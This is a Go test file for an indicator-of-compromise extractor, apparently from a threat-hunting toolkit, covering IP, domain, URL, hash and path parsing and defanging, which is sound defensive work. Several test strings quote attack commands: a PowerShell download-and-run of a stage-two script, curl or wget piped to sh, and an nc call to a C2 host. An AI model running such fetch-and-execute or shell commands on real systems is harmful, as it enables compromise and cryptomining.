package ioc

import (
	"encoding/base64"
	"errors"
	"fmt"
	"math/rand/v2"
	"sort"
	"strings"
	"testing"

	"github.com/huntkit/huntkit/frame"
)

// tv is an expected (type, value) pair.
type tv struct {
	t Type
	v string
}

func (x tv) String() string { return string(x.t) + ":" + x.v }

// extractCases are accuracy cases: each lists exactly the indicators the text holds, so a
// missing indicator and an extra one both fail.
var extractCases = []struct {
	name string
	text string
	want []tv
}{
	// ---- IPv4
	{"sshd failed password", "2024-01-03T10:22:01.511Z wks-0042 sshd[4121]: Failed password for root from 185.220.101.34 port 51234 ssh2",
		[]tv{{IPv4, "185.220.101.34"}}},
	{"octet over 255 rejected", "connect to 300.1.2.3 and 10.0.0.256 then 1.2.3.999", nil},
	{"leading zeros rejected", "addr 01.02.03.04", nil},
	{"private IPs kept", "proxy src=10.14.2.7 dst=192.168.1.20 lo=127.0.0.1 cgnat=100.64.3.2",
		[]tv{{IPv4, "10.14.2.7"}, {IPv4, "192.168.1.20"}, {IPv4, "127.0.0.1"}, {IPv4, "100.64.3.2"}}},
	{"version in context is not an IP", "Installed agent version 1.2.3.4 (build 10.0.19041.1)", nil},
	{"five-part dotted number is not an IP", "oid 1.3.6.1.4.1.311 and 1.2.3.4.5", nil},
	{"ip with port and trailing period", "Beacon to 45.77.10.2:8443. Next hop 8.8.4.4.",
		[]tv{{IPv4, "45.77.10.2"}, {IPv4, "8.8.4.4"}}},
	{"ip range", "blocked 203.0.113.5-203.0.113.9", []tv{{IPv4, "203.0.113.5"}, {IPv4, "203.0.113.9"}}},

	// ---- IPv6
	{"ipv6 forms", "fw src=[2001:db8:85a3::8a2e:370:7334]:443 dst=fe80::1ff:fe23:4567:890a%eth0 map=::ffff:192.0.2.128 lo=::1 full=2001:0db8:0000:0000:0000:ff00:0042:8329",
		[]tv{{IPv6, "2001:db8:85a3::8a2e:370:7334"}, {IPv6, "fe80::1ff:fe23:4567:890a%eth0"}, {IPv6, "::ffff:192.0.2.128"}, {IPv6, "::1"}, {IPv6, "2001:db8::ff00:42:8329"}}},
	{"one IPv6 address written two ways is one indicator", "src 2001:DB8::1 dst 2001:0db8:0:0:0:0:0:0001 nat64 64:ff9b::192.0.2.33",
		[]tv{{IPv6, "2001:db8::1"}, {IPv6, "64:ff9b::192.0.2.33"}}},
	{"times, MACs and C++ scopes are not IPv6", "at 12:34:56 mac 00:1a:2b:3c:4d:5e std::vector<int> Foo::Bar", nil},
	{"ssh to ipv6", "ssh -6 admin@2001:470:1f0b::2", []tv{{IPv6, "2001:470:1f0b::2"}}},

	// ---- domains
	{"file names are not domains", "opened readme.txt, ran file.exe and setup.msi then svchost.exe -k netsvcs", nil},
	{"method names are not domains", "call a.b.c then os.path.join(x) and document.body.click()", nil},
	{"member accesses are not domains", "if self.app and this.name or obj.host then ctx.link; but data.gov is a domain", []tv{{DNS, "data.gov"}}},
	{"script names are not domains", "python3 backup.py && sh run.sh", nil},
	{"domains under public suffixes", "dns query=Update.Kazotek.CO.UK type=A; resolved mail.example.com.br and evil-site.xyz.",
		[]tv{{DNS, "update.kazotek.co.uk"}, {DNS, "mail.example.com.br"}, {DNS, "evil-site.xyz"}}},
	{"a public suffix alone is not a domain", "the suffix co.uk and com.br", nil},
	{"unicode text around", "Ünïcödé текст перед evil.ru и после — 攻击者使用 bad.cn 域名",
		[]tv{{DNS, "evil.ru"}, {DNS, "bad.cn"}}},
	{"domain glued to accented word is not a domain", "Grüßemünchen.de", nil},
	{"url with an internationalised host", "visit https://münchen.de/path and http://例え.jp/ now",
		[]tv{{URL, "https://münchen.de/path"}, {DNS, "xn--mnchen-3ya.de"}, {URL, "http://例え.jp/"}, {DNS, "xn--r8jz45g.jp"}}},
	{"url cut by a non-ASCII letter is not reported truncated", "bad https://mü x", nil},
	{"url followed by an ellipsis", "see http://example.com… and more", []tv{{URL, "http://example.com"}, {DNS, "example.com"}}},

	// ---- URLs (host reported too; larger match wins)
	{"url with host and no separate domain or path", "powershell IEX (New-Object Net.WebClient).DownloadString('https://cdn.evil-updates.com/a/b/stage2.ps1?id=42&k=x')",
		[]tv{{URL, "https://cdn.evil-updates.com/a/b/stage2.ps1?id=42&k=x"}, {DNS, "cdn.evil-updates.com"}}},
	{"url on an ip", "curl -s http://45.9.148.3:8080/x.sh | sh", []tv{{URL, "http://45.9.148.3:8080/x.sh"}, {IPv4, "45.9.148.3"}}},
	{"url in parentheses and sentence", "(see https://example.org/path_(x)) and ftp://files.example.net/pub.",
		[]tv{{URL, "https://example.org/path_(x)"}, {DNS, "example.org"}, {URL, "ftp://files.example.net/pub"}, {DNS, "files.example.net"}}},
	{"other schemes", "ldap://dc01.contoso.com/ou=x sftp://backup.example.de/data file:///etc/passwd",
		[]tv{{URL, "ldap://dc01.contoso.com/ou=x"}, {DNS, "dc01.contoso.com"}, {URL, "sftp://backup.example.de/data"}, {DNS, "backup.example.de"}, {URL, "file:///etc/passwd"}}},
	{"tcp and udp urls (reverse shells, C2)", "nc tcp://c2.evil-host.net:4444 and udp://45.9.148.3:53/x",
		[]tv{{URL, "tcp://c2.evil-host.net:4444"}, {DNS, "c2.evil-host.net"}, {URL, "udp://45.9.148.3:53/x"}, {IPv4, "45.9.148.3"}}},
	{"ipv6 url", "GET http://[2001:db8::7]:8080/index.html", []tv{{URL, "http://[2001:db8::7]:8080/index.html"}, {IPv6, "2001:db8::7"}}},

	// ---- defanged
	{"defanged url and domain", "threat-intel note: observed hxxps://login-micros0ft[.]com/owa in phishing; C2 at 91[.]215[.]85[.]17 and bad(.)example{.}org",
		[]tv{{URL, "https://login-micros0ft.com/owa"}, {DNS, "login-micros0ft.com"}, {IPv4, "91.215.85.17"}, {DNS, "bad.example.org"}}},
	{"defanged scheme variants", "hXXp://a-b.example[dot]com/x fxp://ftp.example[.]net/y hxxp[:]//c.example.io/z",
		[]tv{{URL, "http://a-b.example.com/x"}, {DNS, "a-b.example.com"}, {URL, "ftp://ftp.example.net/y"}, {DNS, "ftp.example.net"}, {URL, "http://c.example.io/z"}, {DNS, "c.example.io"}}},
	{"defanged email", "reply to billing[at]paypa1-secure[.]com or ops[@]example(dot)org",
		[]tv{{Email, "billing@paypa1-secure.com"}, {Email, "ops@example.org"}}},
	{"spaced dot", "the domain evil [dot] com was seen", []tv{{DNS, "evil.com"}}},

	// ---- e-mail versus domain
	{"email wins over its domain", "mail from=<alice.smith12@kazotek.com> to=<bob+tag@mail.example.co.uk> relay=mx1.kazotek.com[8.8.8.8]",
		[]tv{{Email, "alice.smith12@kazotek.com"}, {Email, "bob+tag@mail.example.co.uk"}, {DNS, "mx1.kazotek.com"}, {IPv4, "8.8.8.8"}}},
	{"user@host without public suffix is not an email", "login admin@localhost and root@server01 failed", nil},
	{"domain not taken for an email", "visit example.com @ noon", []tv{{DNS, "example.com"}}},

	// ---- hashes
	{"hashes", "FileCreated md5=D41D8CD98F00B204E9800998ECF8427E sha1=da39a3ee5e6b4b0d3255bfef95601890afd80709 sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		[]tv{{MD5, "d41d8cd98f00b204e9800998ecf8427e"}, {SHA1, "da39a3ee5e6b4b0d3255bfef95601890afd80709"}, {SHA256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}}},
	{"hex runs of other lengths or glued are not hashes", "x=d41d8cd98f00b204e9800998ecf8427e0 y=gd41d8cd98f00b204e9800998ecf8427e guid=8a0a4f3e-12ab-4cde-9f00-1234567890ab n=12345678901234567890123456789012", nil},
	{"hex-encoded text is not a hash", "type=PROCTITLE proctitle=7375646f00617564697463746c002d6c", nil},
	{"hash in a file name", "dropped sample_e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855.bin",
		[]tv{{SHA256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}}},

	// ---- paths
	{"windows paths", `NewProcessName=C:\Program Files (x86)\Google\Update\updater.exe CommandLine="rundll32.exe C:\ProgramData\Microsoft\Crypto\dllhost_x64.dll,DllRegisterServer"`,
		[]tv{{WindowsPath, `C:\Program Files (x86)\Google\Update\updater.exe`}, {WindowsPath, `C:\ProgramData\Microsoft\Crypto\dllhost_x64.dll`}}},
	{"unc path with host", `net use \\10.1.2.3\c$ /user:CONTOSO\jdoe`, []tv{{WindowsPath, `\\10.1.2.3\c$`}, {IPv4, "10.1.2.3"}}},
	{"a path does not run on over a file name and words", `copy \\fs01.corp.example.com\share\x.ps1 to %APPDATA%\x.exe and C:\temp\a.bat b\c.txt`,
		[]tv{{WindowsPath, `\\fs01.corp.example.com\share\x.ps1`}, {DNS, "fs01.corp.example.com"}, {WindowsPath, `C:\temp\a.bat`}}},
	{"a quoted path keeps the spaces of its file name", `winword.exe /n "C:\Users\bob\Downloads\Invoice 2023 (final).docm" /o ""`,
		[]tv{{WindowsPath, `C:\Users\bob\Downloads\Invoice 2023 (final).docm`}}},
	{"linux paths", `type=EXECVE exe="/usr/local/bin/xmrig" cmd="wget -q -O- http://198.51.100.7/i.sh | sh" out=/var/tmp/.cache/kworkerd 2>/dev/null`,
		[]tv{{LinuxPath, "/usr/local/bin/xmrig"}, {URL, "http://198.51.100.7/i.sh"}, {IPv4, "198.51.100.7"}, {LinuxPath, "/var/tmp/.cache/kworkerd"}, {LinuxPath, "/dev/null"}}},
	{"command switches and single segments are not paths", "cmd.exe /c dir /s /b and schtasks /create /tn x", nil},
	{"url path is not a linux path", "GET https://example.com/usr/bin/x", []tv{{URL, "https://example.com/usr/bin/x"}, {DNS, "example.com"}}},

	// ---- mixed threat report sentence
	{"threat report sentence", "The actor used update.kazotek[.]xyz (resolving to 5.188.86.172) to serve a loader (SHA256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08) dropped to %TEMP%.",
		[]tv{{DNS, "update.kazotek.xyz"}, {IPv4, "5.188.86.172"}, {SHA256, "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}}},
}

func sortedSet(ms []Match) []string {
	var out []string
	seen := map[string]bool{}
	for _, m := range ms {
		k := tv{m.Type, m.Value}.String()
		if !seen[k] {
			seen[k] = true
			out = append(out, k)
		}
	}
	sort.Strings(out)
	return out
}

func TestExtractAccuracy(t *testing.T) {
	for _, c := range extractCases {
		t.Run(c.name, func(t *testing.T) {
			got := Extract(c.text)
			var want []string
			for _, w := range c.want {
				want = append(want, w.String())
			}
			sort.Strings(want)
			gs := sortedSet(got)
			if strings.Join(gs, "\n") != strings.Join(want, "\n") {
				t.Errorf("text %q\n got: %v\nwant: %v", c.text, gs, want)
			}
			checkPositions(t, c.text, got)
		})
	}
}

func checkPositions(t *testing.T, text string, ms []Match) {
	t.Helper()
	for _, m := range ms {
		if m.Start < 0 || m.End > len(text) || m.Start >= m.End {
			t.Fatalf("bad span %d:%d for %v (text length %d)", m.Start, m.End, m, len(text))
		}
		if text[m.Start:m.End] != m.Raw {
			t.Errorf("Raw %q != text[%d:%d] %q", m.Raw, m.Start, m.End, text[m.Start:m.End])
		}
		if m.Value == "" {
			t.Errorf("empty value for %v", m)
		}
	}
}

func TestRawAndScope(t *testing.T) {
	text := "C2 hxxp://evil[.]com/p from 10.0.0.5 to 8.8.8.8 and ::1"
	ms := Extract(text)
	byVal := map[string]Match{}
	for _, m := range ms {
		byVal[m.Value] = m
	}
	if m := byVal["http://evil.com/p"]; m.Raw != "hxxp://evil[.]com/p" || m.Type != URL {
		t.Errorf("defanged URL raw = %+v", m)
	}
	if m := byVal["evil.com"]; m.Raw != "evil[.]com" {
		t.Errorf("defanged host raw = %+v", m)
	}
	for v, scope := range map[string]string{"10.0.0.5": ScopePrivate, "8.8.8.8": ScopePublic, "::1": ScopeLoopback} {
		if byVal[v].Scope != scope {
			t.Errorf("%s scope = %q, want %q", v, byVal[v].Scope, scope)
		}
	}
	if byVal["evil.com"].Scope != "" {
		t.Errorf("domains have no scope")
	}
}

func TestOptions(t *testing.T) {
	text := "from 10.0.0.5 to 8.8.8.8 via https://cdn.good.com/x and http://10.1.1.1/a; mail bob@corp.example.com; dc01.corp; promo.top; evil.com"
	cases := []struct {
		name string
		opts []Option
		want []string
	}{
		{"default", nil, []string{"dns:cdn.good.com", "dns:evil.com", "dns:promo.top", "email:bob@corp.example.com", "ipv4:10.0.0.5", "ipv4:10.1.1.1", "ipv4:8.8.8.8", "url:http://10.1.1.1/a", "url:https://cdn.good.com/x"}},
		{"no private", []Option{WithPrivateIPs(false)}, []string{"dns:cdn.good.com", "dns:evil.com", "dns:promo.top", "email:bob@corp.example.com", "ipv4:8.8.8.8", "url:https://cdn.good.com/x"}},
		{"types", []Option{WithTypes(IPv4)}, []string{"ipv4:10.0.0.5", "ipv4:10.1.1.1", "ipv4:8.8.8.8"}},
		{"types dns keeps url hosts only", []Option{WithTypes(DNS)}, []string{"dns:cdn.good.com", "dns:evil.com", "dns:promo.top"}},
		{"ignore tld", []Option{WithIgnoreTLDs(".TOP"), WithTypes(DNS)}, []string{"dns:cdn.good.com", "dns:evil.com"}},
		{"deny with subdomains", []Option{WithDeny("good.com", "example.com", "8.8.8.8")}, []string{"dns:evil.com", "dns:promo.top", "ipv4:10.0.0.5", "ipv4:10.1.1.1", "url:http://10.1.1.1/a"}},
		{"allow suffix", []Option{WithAllowSuffixes("corp"), WithTypes(DNS)}, []string{"dns:cdn.good.com", "dns:dc01.corp", "dns:evil.com", "dns:promo.top"}},
		{"no url hosts", []Option{WithURLHosts(false), WithTypes(DNS, URL)}, []string{"dns:evil.com", "dns:promo.top", "url:http://10.1.1.1/a", "url:https://cdn.good.com/x"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := sortedSet(Extract(text, c.opts...))
			if strings.Join(got, " ") != strings.Join(c.want, " ") {
				t.Errorf("\n got: %v\nwant: %v", got, c.want)
			}
		})
	}
}

func TestFileExtensionTLDOption(t *testing.T) {
	if got := sortedSet(Extract("run backup.py now")); len(got) != 0 {
		t.Errorf("default: %v", got)
	}
	if got := sortedSet(Extract("run backup.py now", WithFileExtensionTLDs(false))); len(got) != 1 || got[0] != "dns:backup.py" {
		t.Errorf("off: %v", got)
	}
	// three labels are a domain even with a script-like TLD
	if got := sortedSet(Extract("c2 at www.bad.sh")); len(got) != 1 || got[0] != "dns:www.bad.sh" {
		t.Errorf("www.bad.sh: %v", got)
	}
}

func TestUniqueAndExtractUnique(t *testing.T) {
	text := strings.Repeat("8.8.8.8 evil.com 8.8.8.8\n", 50)
	all := Extract(text)
	if len(all) != 150 {
		t.Fatalf("Extract found %d, want 150", len(all))
	}
	u := ExtractUnique(text)
	if len(u) != 2 || u[0].Value != "8.8.8.8" || u[0].Start != 0 || u[1].Value != "evil.com" {
		t.Errorf("ExtractUnique = %+v", u)
	}
	if got := Unique(all); len(got) != 2 {
		t.Errorf("Unique = %d", len(got))
	}
}

func TestParallelMatchesSequential(t *testing.T) {
	var b strings.Builder
	for i := 0; b.Len() < parallelMin+1000; i++ {
		fmt.Fprintf(&b, "line %d from 10.%d.%d.%d to host%d.example.com url=http://x%d.example.org/p?q=%d hash=%032x\n", i, i%250, (i/250)%250, i%200+1, i%97, i%13, i, i)
	}
	text := b.String()
	par := Extract(text)
	sc := scanner{cfg: newConfig(nil)}
	sc.scanText(text, 0)
	seq := sc.result()
	if len(par) != len(seq) {
		t.Fatalf("parallel %d matches, sequential %d", len(par), len(seq))
	}
	for i := range par {
		if par[i] != seq[i] {
			t.Fatalf("match %d differs: %+v vs %+v", i, par[i], seq[i])
		}
	}
	u := ExtractUnique(text)
	if got, want := len(u), len(Unique(seq)); got != want {
		t.Errorf("ExtractUnique parallel = %d, want %d", got, want)
	}
}

func TestVeryLongLine(t *testing.T) {
	long := strings.Repeat("a", 1<<20) + " evil.com " + strings.Repeat("/x", 1<<16) + " " + strings.Repeat("9", 5000) + ".1.1.1"
	ms := Extract(long)
	got := sortedSet(ms)
	want := []string{"dns:evil.com", "linux_path:" + strings.Repeat("/x", 1<<16)}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("got %d matches: %.200v", len(got), got)
	}
	checkPositions(t, long, ms)
}

func TestRefang(t *testing.T) {
	cases := []struct{ in, want string }{
		{"hxxp://evil[.]com/a", "http://evil.com/a"},
		{"hXXps://evil(.)com", "https://evil.com"},
		{"fxp://files{.}example[dot]org", "ftp://files.example.org"},
		{"1[.]2[.]3[.]4", "1.2.3.4"},
		{"bob[at]example[.]com and ann[@]x(dot)io", "bob@example.com and ann@x.io"},
		{"hxxp[:]//a[.]b[.]com", "http://a.b.com"},
		{"hxxps[://]evil[.]com", "https://evil.com"},
		{"evil [dot] com", "evil.com"},
		{"no markers [x] (y) {z} shhxxp", "no markers [x] (y) {z} shhxxp"},
		{"array[0].field", "array[0].field"},
	}
	for _, c := range cases {
		if got := Refang(c.in); got != c.want {
			t.Errorf("Refang(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestDefang(t *testing.T) {
	cases := []struct {
		v    string
		t    Type
		want string
	}{
		{"https://evil.com/a.b/c", URL, "hxxps[://]evil[.]com/a.b/c"},
		{"http://1.2.3.4:80/x", URL, "hxxp[://]1[.]2[.]3[.]4:80/x"},
		{"evil.com", DNS, "evil[.]com"},
		{"8.8.8.8", IPv4, "8[.]8[.]8[.]8"},
		{"bob@evil.com", Email, "bob[@]evil[.]com"},
		{"2001:db8::1", IPv6, "2001[:]db8[:][:]1"},
		{"d41d8cd98f00b204e9800998ecf8427e", MD5, "d41d8cd98f00b204e9800998ecf8427e"},
		{"hxxps://evil[.]com/a", URL, "hxxps[://]evil[.]com/a"}, // idempotent
	}
	for _, c := range cases {
		got := Defang(c.v, c.t)
		if got != c.want {
			t.Errorf("Defang(%q, %s) = %q, want %q", c.v, c.t, got, c.want)
		}
		if Refang(got) != Refang(c.v) {
			t.Errorf("Refang(Defang(%q)) = %q", c.v, Refang(got))
		}
	}
	in := "C2 https://evil.com/x and 1.2.3.4, mail bob@evil.com"
	want := "C2 hxxps[://]evil[.]com/x and 1[.]2[.]3[.]4, mail bob[@]evil[.]com"
	if got := DefangText(in); got != want {
		t.Errorf("DefangText = %q, want %q", got, want)
	}
	if got := Refang(DefangText(in)); got != in {
		t.Errorf("Refang(DefangText) = %q", got)
	}
}

func TestValidateAndTypeOf(t *testing.T) {
	cases := []struct {
		v     string
		t     Type
		valid bool
	}{
		{"8.8.8.8", IPv4, true}, {"256.1.1.1", IPv4, false}, {"1.2.3", IPv4, false},
		{"2001:db8::1", IPv6, true}, {"12:34:56", IPv6, false},
		{"evil.com", DNS, true}, {"evil[.]com", DNS, true}, {"readme.txt", DNS, false}, {"co.uk", DNS, false},
		{"https://evil.com/a", URL, true}, {"evil.com/a", URL, false},
		{"bob@evil.com", Email, true}, {"bob@localhost", Email, false},
		{"d41d8cd98f00b204e9800998ecf8427e", MD5, true}, {"d41d8cd98f00b204e9800998ecf8427", MD5, false},
		{"da39a3ee5e6b4b0d3255bfef95601890afd80709", SHA1, true},
		{"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", SHA256, true},
		{`C:\Windows\System32\cmd.exe`, WindowsPath, true}, {"/usr/bin/curl", LinuxPath, true}, {"/c", LinuxPath, false},
		{"evil.com", "domain", true}, {"d41d8cd98f00b204e9800998ecf8427e", "md5", true}, {"x", "nonsense", false},
	}
	for _, c := range cases {
		if got := Validate(c.v, c.t); got != c.valid {
			t.Errorf("Validate(%q, %s) = %v, want %v", c.v, c.t, got, c.valid)
		}
	}
	types := map[string]Type{
		"8.8.8.8": IPv4, "::1": IPv6, "evil.com": DNS, "https://evil.com/a": URL, "bob@evil.com": Email,
		"d41d8cd98f00b204e9800998ecf8427e": MD5, `C:\x\y.exe`: WindowsPath, "/etc/passwd": LinuxPath,
		"hxxp://evil[.]com": URL, "tcp://evil.com:4444": URL,
	}
	for v, want := range types {
		if got, ok := TypeOf(v); !ok || got != want {
			t.Errorf("TypeOf(%q) = %s %v, want %s", v, got, ok, want)
		}
	}
	for _, v := range []string{"hello", "file.exe", "8.8.8.8 and 1.1.1.1", ""} {
		if got, ok := TypeOf(v); ok {
			t.Errorf("TypeOf(%q) = %s, want none", v, got)
		}
	}
}

func TestParseType(t *testing.T) {
	for name, want := range map[string]Type{"dns": DNS, "Domain": DNS, "md5_hash": MD5, "sha256": SHA256, "windows_path": WindowsPath, "url": URL} {
		if got, err := ParseType(name); err != nil || got != want {
			t.Errorf("ParseType(%q) = %s, %v", name, got, err)
		}
	}
	if _, err := ParseType("ipv5"); err == nil || !strings.Contains(err.Error(), "ipv5") {
		t.Errorf("ParseType(ipv5) error = %v", err)
	}
	ts, err := ParseTypes("ipv4,dns", "url")
	if err != nil || len(ts) != 3 {
		t.Errorf("ParseTypes = %v, %v", ts, err)
	}
}

func TestExtractFrame(t *testing.T) {
	in := frame.MustNew(
		frame.NewStrings("CommandLine", []string{
			"cmd.exe /c ping -n 1 8.8.8.8 && ping 8.8.8.8",
			"",
			"nslookup evil.com 10.0.0.1",
			"curl -s https://x.example.org/a",
		}).WithValid([]bool{true, false, true, true}),
		frame.NewInts("n", []int64{1, 2, 3, 4}),
	)
	out, err := ExtractFrame(in, "CommandLine")
	if err != nil {
		t.Fatal(err)
	}
	wantNames := []string{ColIoCType, ColObservable, ColSourceIndex, ColInput, ColScope}
	if strings.Join(out.Names(), ",") != strings.Join(wantNames, ",") {
		t.Fatalf("columns %v", out.Names())
	}
	var rows []string
	for i := 0; i < out.Len(); i++ {
		rows = append(rows, fmt.Sprintf("%d %s %s %s", out.Col(ColSourceIndex).Int(i), out.Col(ColIoCType).Str(i), out.Col(ColObservable).Str(i), out.Col(ColScope).Str(i)))
	}
	want := []string{
		"0 ipv4 8.8.8.8 public",
		"2 dns evil.com ",
		"2 ipv4 10.0.0.1 private",
		"3 url https://x.example.org/a ",
		"3 dns x.example.org ",
	}
	if strings.Join(rows, "\n") != strings.Join(want, "\n") {
		t.Errorf("rows:\n%s\nwant:\n%s", strings.Join(rows, "\n"), strings.Join(want, "\n"))
	}
	if out.Col(ColInput).Str(2) != "nslookup evil.com 10.0.0.1" {
		t.Errorf("Input = %q", out.Col(ColInput).Str(2))
	}
	if _, err := ExtractFrame(in, "nope"); err == nil || !strings.Contains(err.Error(), "nope") || !errors.Is(err, ErrNoColumn) {
		t.Errorf("missing column error = %v", err)
	}
	if _, err := ExtractFrame(in, "commandline"); err == nil || !strings.Contains(err.Error(), `did you mean "CommandLine"?`) {
		t.Errorf("mistyped column error = %v", err)
	}
}

func TestExtractFrameParallelOrder(t *testing.T) {
	n := 20000
	vals := make([]string, n)
	for i := range vals {
		vals[i] = fmt.Sprintf("ping 10.0.%d.%d", i/250, i%250+1)
	}
	out, err := ExtractFrame(frame.MustNew(frame.NewStrings("c", vals)), "c")
	if err != nil {
		t.Fatal(err)
	}
	if out.Len() != n {
		t.Fatalf("%d rows, want %d", out.Len(), n)
	}
	for i := 0; i < n; i++ {
		if out.Col(ColSourceIndex).Int(i) != int64(i) {
			t.Fatalf("row %d has SourceIndex %d", i, out.Col(ColSourceIndex).Int(i))
		}
	}
}

func TestFrameOfMatches(t *testing.T) {
	f := Frame(Extract("a 8.8.8.8 b"))
	if f.Len() != 1 || f.Col("Start").Int(0) != 2 || f.Col("End").Int(0) != 9 || f.Col("Raw").Str(0) != "8.8.8.8" {
		t.Errorf("Frame = %v", f.Record(0))
	}
}

func TestRefangInsideURL(t *testing.T) {
	text := "url=http://a.example.com/r?redirect=hxxp%3A%2F%2Fwww.evil.fr%2Fx status=200"
	ms := Extract(text, WithTypes(URL))
	if len(ms) != 2 || ms[0].Value != "http://a.example.com/r?redirect=http%3A%2F%2Fwww.evil.fr%2Fx" || ms[1].Value != "http://www.evil.fr/x" {
		t.Errorf("got %+v", ms)
	}
}

func TestExtractFrameLongCell(t *testing.T) {
	var b strings.Builder
	for i := 0; i < 5000; i++ {
		fmt.Fprintf(&b, "10.0.%d.%d 10.0.%d.%d ", i/250, i%250+1, i/250, i%250+1)
	}
	out, err := ExtractFrame(frame.MustNew(frame.NewStrings("c", []string{b.String(), "8.8.8.8 8.8.8.8"})), "c")
	if err != nil {
		t.Fatal(err)
	}
	if out.Len() != 5001 {
		t.Errorf("%d rows, want 5001 (one per distinct address per row)", out.Len())
	}
}

func TestPercentEncodedInnerURL(t *testing.T) {
	text := "GET https://t.example.com/r?u=http%3A%2F%2Fwww.evil-site.fr%2Fpay%3Fid%3D7&x=1 200"
	got := sortedSet(Extract(text))
	want := []string{"dns:t.example.com", "dns:www.evil-site.fr", "url:http://www.evil-site.fr/pay?id=7", "url:https://t.example.com/r?u=http%3A%2F%2Fwww.evil-site.fr%2Fpay%3Fid%3D7&x=1"}
	if strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("\n got %v\nwant %v", got, want)
	}
	checkPositions(t, text, Extract(text))
}

// An IPv4-mapped IPv6 address has one form, ::ffff:a.b.c.d (RFC 5952 section 5), however it
// was written (issue 11: FuzzExtract found "::ffff:0:0").
func TestIPv4MappedForm(t *testing.T) {
	for in, want := range map[string]string{
		"a ::ffff:0:0 b":            "::ffff:0.0.0.0",
		"a ::FFFF:C000:0280 b":      "::ffff:192.0.2.128",
		"a ::ffff:192.0.2.128 b":    "::ffff:192.0.2.128",
		"a 0:0:0:0:0:ffff:c000:280": "::ffff:192.0.2.128",
	} {
		ms := Extract(in)
		if len(ms) != 1 || ms[0].Type != IPv6 || ms[0].Value != want {
			t.Errorf("Extract(%q) = %+v, want one IPv6 %q", in, ms, want)
		}
	}
}

// Base64 text wrapped into lines that start with '/' is not a Linux path; real paths are
// (issue 11: 1,342 base64 fragments of one file were reported as linux_path).
func TestLinuxPathShape(t *testing.T) {
	notPaths := []string{
		"/MMPegKv6jsU3i8pAdTYwy48CQpo82EF0a181P/ndmsXr07iaAIex/GSKnZCPFqGOvlpZtO4HqH/",
		"/YF5wycFpbU0Vt1bL2/yXRmToOnamW2Io/k08h9PJ2vmAa4r3+sIPkza21nYXCSB/jefjFx2gYHT",
		"/g3we4tSdx05oA7jS/FzoNDFOtNM6COs31nkytM3WbjMDXUOjM8UvV1CXIcM6YdwVzfGXAs35CEk",
		"//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBw==",
	}
	for _, s := range notPaths {
		for _, m := range Extract("x\n" + s + "\ny") {
			if m.Type == LinuxPath {
				t.Errorf("base64 line %q gave linux_path %q", s, m.Value)
			}
		}
	}
	paths := []string{"/etc/passwd", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/tmp/AbC9dEf3GhI2/run", "/home/Alice/Documents/Report2024/final",
		"/var/lib/docker/overlay2/3f4e5d6c7b8a9f0e1d2c3b4a5f6e7d8c/diff", "/usr/include/c++/12/vector"}
	for _, p := range paths {
		ms := Extract("ran " + p + " ok")
		if len(ms) != 1 || ms[0].Type != LinuxPath || ms[0].Value != p {
			t.Errorf("Extract(%q) = %+v, want the linux_path", p, ms)
		}
	}
}

func TestWrappedBase64HasNoLinuxPaths(t *testing.T) {
	rng := rand.New(rand.NewPCG(11, 20))
	raw := make([]byte, 300000)
	for i := range raw {
		raw[i] = byte(rng.Uint32())
	}
	enc := base64.StdEncoding.EncodeToString(raw)
	var b strings.Builder
	for len(enc) > 76 {
		b.WriteString(enc[:76])
		b.WriteByte('\n')
		enc = enc[76:]
	}
	b.WriteString(enc)
	for _, m := range Extract(b.String()) {
		if m.Type == LinuxPath {
			t.Errorf("linux_path %q in base64 text", m.Value)
		}
	}
}
